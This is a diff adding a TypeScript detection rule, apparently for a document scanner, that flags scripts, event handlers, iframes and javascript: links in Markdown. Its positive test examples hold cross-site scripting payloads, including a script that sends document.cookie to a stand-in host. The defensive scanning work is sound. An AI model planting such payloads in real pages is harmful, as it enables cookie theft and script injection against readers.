@@ -1,0 +1,102 @@
+import { isOutside } from '../chains.js'
+import type { Evidence } from '../evidence.js'
+import { type Address, findAddresses } from '../facts/address.js'
+import { splitCodeSpans } from '../facts/code-spans.js'
+import { registrableDomain } from '../facts/domain.js'
+import { type ActiveMarkup, findActiveMarkup } from '../facts/markup.js'
+import { addressesIn, reachesOut, runsUnread, sendsFrom, takesAway } from '../facts/page-script.js'
+import type { Severity } from '../finding.js'
+import type { Observation, Rule } from '../rule.js'
+import { placeIn, type Segment } from '../text/segment.js'
+
+export const rule: Rule = {
+  id: 'SK-RL007',
+  pattern: 'active markup in document',
+  severity: 'warn',
+  tags: ['AST01', 'CWE-79', 'CWE-829'],
+  why: 'Raw markup in Markdown is rendered: a script, an event handler, a frame or a javascript: link in a document runs in whatever shows the document, before anybody reads it.',
+  fix: 'Show markup in a fenced block, and keep scripts in files of their own.',
+  examples: {
+    positive: [
+      'Thanks for reading.\n\n<script>fetch("https://c.example.net/?"+document.cookie)</script>\n',
+      '<img src=x onerror="fetch(\'https://c.example.net/\')">\n',
+      '<svg onload=alert(1)></svg>\n',
+      '<iframe src="https://c.example.net/"></iframe>\n',
+      'Read [the manual](javascript:fetch("https://c.example.net")).\n',
+      '```html\n<script>fetch("https://c.example.net/?"+document.cookie)</script>\n```\n',
+    ],
+    negative: [
+      '```html\n<script src="app.js"></script>\n<button onclick="toggle()">Show</button>\n<script>\nrender(document.body)\n</script>\n```\n',
+      'Put it in a `<script>` tag; a `javascript:` link or `<img onerror=…>` is not allowed.\n',
+      '<details><summary>More</summary>\n\n<img src="logo.png" width="80"> <a href="https://example.com">site</a>\n\n</details>\n',
+      'Use <script> tags sparingly.\n',
+      '```html\n<script>\nfetch("/api/items").then(r => r.json()).then(show)\n</script>\n```\n',
+    ],
+  },
+  find: (evidence) => evidence.segments.flatMap((segment) => judge(segment, evidence)),
+}
+
+function judge(segment: Segment, evidence: Evidence): readonly Observation[] {
+  const { kind } = segment
+  if (kind === 'fence') return shown(segment, segment.text, evidence)
+  if (kind !== 'paragraph' && kind !== 'heading') return []
+  const { plain, code } = splitCodeSpans(segment.text)
+  return [...rendered(segment, plain, evidence), ...shown(segment, code, evidence)]
+}
+
+/** What a renderer takes as it is. A script goes on where a blank line ends the paragraph. */
+function rendered(segment: Segment, plain: string, { files }: Evidence): readonly Observation[] {
+  if (segment.language !== 'prose' || !/\.(?:md|mdx|markdown)$/i.test(files[segment.file]?.path ?? '')) return []
+  return findActiveMarkup(plain + restOf(segment, plain, files[segment.file]?.text)).map((markup) => {
+    const isReaching =
+      reachesOut(markup.code) || (markup.kind === 'script' && markup.address !== undefined && isOutside(markup.address))
+    const severity: Severity = isReaching ? 'block' : 'warn'
+    return { segment, at: markup.index, severity, confidence: 'high', message: MESSAGES[markup.kind] }
+  })
+}
+
+const LONGEST = 8192
+
+function restOf(segment: Segment, plain: string, text: string | undefined): string {
+  const lower = plain.toLowerCase()
+  const open = lower.lastIndexOf('<script')
+  if (open < 0 || lower.includes('</script', open)) return ''
+  const from = placeIn(segment, segment.text.length)
+  return text?.slice(from, from + LONGEST) ?? ''
+}
+
+const MESSAGES: Readonly<Record<ActiveMarkup['kind'], string>> = {
+  script: 'A script in the document runs when the document is rendered',
+  handler: 'An event handler in the document runs when the document is rendered',
+  frame: 'The document loads a page of its own when it is rendered',
+  link: 'A link in the document is code',
+  page: 'The document sends its reader elsewhere when it is rendered',
+}
+
+/** Markup that is shown may teach; what contacts a host that nothing else here names, or runs what it decodes, may not. */
+function shown(segment: Segment, text: string, evidence: Evidence): readonly Observation[] {
+  return findActiveMarkup(text).flatMap((markup): readonly Observation[] => {
+    const { kind, code, address } = markup
+    if (segment.language === 'javascript' && kind !== 'script') return []
+    const reached = kind === 'frame' ? [address] : sendsFrom(code) ? addressesIn(code) : []
+    const isTaking = takesAway(code) && reached.some((each) => each !== undefined && isOutside(each))
+    if (!isTaking && !runsUnread(code) && !reached.some((each) => isStranger(each, segment, evidence))) return []
+    return [{ segment, at: markup.index, message: `${MESSAGES[kind]}, if it is copied there` }]
+  })
+}
+
+/** Players and maps that pages embed. */
+const EMBEDDED = new Set('youtube.com youtube-nocookie.com vimeo.com spotify.com google.com codepen.io'.split(' '))
+
+/** Whether an address leads to a host that no other part of the skill names. */
+function isStranger(address: Address | undefined, segment: Segment, { segments }: Evidence): boolean {
+  if (address === undefined || !isOutside(address) || address.kind === 'code' || address.kind === 'known') return false
+  const domain = registrableDomain(address.host)
+  if (EMBEDDED.has(domain)) return false
+  return !segments.some(
+    (other) =>
+      other.block !== segment.block &&
+      other.text.includes(domain) &&
+      findAddresses(other.text).some(({ host }) => registrableDomain(host) === domain),
+  )
+}
